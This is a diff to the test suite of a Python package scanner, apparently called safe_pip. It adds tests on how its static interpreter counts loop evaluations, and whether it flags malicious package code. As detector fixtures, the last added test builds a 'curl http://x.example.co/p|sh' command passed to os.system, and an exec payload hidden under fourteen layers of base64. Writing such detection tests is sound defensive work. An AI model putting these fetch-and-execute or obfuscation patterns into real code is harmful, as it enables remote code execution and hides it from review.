@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import ast
+import base64
 import contextlib
 import tracemalloc
+from typing import Any
 
 import pytest
 
@@ -17,12 +19,31 @@ from safe_pip.extractors.parsing import decode_source, parse, parse_leniently
 from safe_pip.extractors.program import Program
 from safe_pip.extractors.triggers import earns_tree
 from safe_pip.extractors.unit import FoldedLiteral, PythonUnit, python_units
+from safe_pip.extractors.values import Value
 from tests.sources import code_evidence, distribution_of
 
 
 def _unit(source: str | bytes, path: str = "pkg/__init__.py") -> PythonUnit:
     (unit,) = python_units(distribution_of({path: source}))
     return unit
+
+
+def _evaluations(source: str) -> int:
+    """How many expressions are evaluated."""
+    fuel = 1_000_000
+    imports = Program(distribution_of({}))
+    interpreter = Interpreter(path="m.py", surface=Surface.MODULE, imports=imports, fuel=fuel)
+    counted = 0
+    evaluate = interpreter.evaluate
+
+    def count(*arguments: Any) -> Value:
+        nonlocal counted
+        counted += 1
+        return evaluate(*arguments)
+
+    interpreter.evaluate = count  # type: ignore[assignment,method-assign]
+    interpreter.run(ast.parse(source))
+    return counted
 
 
 def _literals(source: str) -> set[tuple[int, str | bytes, bool]]:
@@ -229,14 +250,48 @@ def test_more_computed_text_than_can_be_held_is_refused() -> None:
 
 def test_comprehension_in_another_costs_no_more_than_one() -> None:
     """As the table of a XOR in aiohttp, 65,536 numbers: 20,000 rounds are followed, as of one."""
+    table = "def f():\n    return [bytes(a ^ b for a in range(256)) for b in range(256)]\nf()\n"
+    assert _evaluations(table) < 5 * 20_000
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "if p in seen: raise RuntimeError(l)\n        seen.add(p)\n        p = p.parent",
+        "time.sleep(l)",
+        "x = l.name.upper()" + "; y = x + l.other" * 9,
+    ],
+)
+def test_rounds_that_change_nothing_end_a_loop(body: str) -> None:
+    """As the way through a logger's parents in celery, a thousand rounds each of many times."""
     source = (
-        "def table():\n    return [bytes(a ^ b for a in range(256)) for b in range(256)]\ntable()"
+        "import time\ndef f(l, p):\n    seen = set()\n"
+        f"    for _ in range(1000):\n        {body}\nf(l, p)\n"
     )
-    fuel = 1_000_000
-    imports = Program(distribution_of({}))
-    interpreter = Interpreter(path="m.py", surface=Surface.MODULE, imports=imports, fuel=fuel)
-    interpreter.run(ast.parse(source))
-    assert fuel - interpreter.fuel < 5 * 20_000
+    evaluated = _evaluations(source)
+    assert evaluated == _evaluations(source.replace("1000", "2000"))
+    assert evaluated < 4_000
+
+
+def test_rounds_that_change_something_are_all_run() -> None:
+    source = (
+        "import os\nn = 0\ntext = ''\nfor _ in range(40):\n"
+        "    n = n + 1\n    if n == 35: text = 'curl http://x.example.co/p|sh'\nos.system(text)\n"
+    )
+    found = {item.feature for item in code_evidence({"demo/__init__.py": source})}
+    assert "shell_download" in found
+    counted = "text = ''\nn = 0\ndef step():\n    global n, text\n    n += 1\n    if n == 35: text = 'curl http://x.example.co/p|sh'\n"
+    for way in ("m.step()", "exec('m.step()')", "g()"):
+        module = f"import os\nfrom . import m\ng = m.step\nfor _ in range(40):\n    {way}\nos.system(m.text)\n"
+        package = {"pkg/__init__.py": module, "pkg/m.py": counted}
+        found = {item.feature for item in code_evidence(package)}
+        assert "shell_download" in found, way
+    hidden = "import os;os.system('x')"
+    for _ in range(14):
+        hidden = base64.b64encode(hidden.encode()).decode()
+    decoding = f"import base64\nd = {hidden!r}\nfor _ in range(14):\n    d = base64.b64decode(d)\n"
+    found = {item.feature for item in code_evidence({"demo/__init__.py": decoding + "exec(d)\n"})}
+    assert "proc_spawn_unasked" in found
 
 
 def test_text_of_many_short_pieces_is_decoded() -> None:
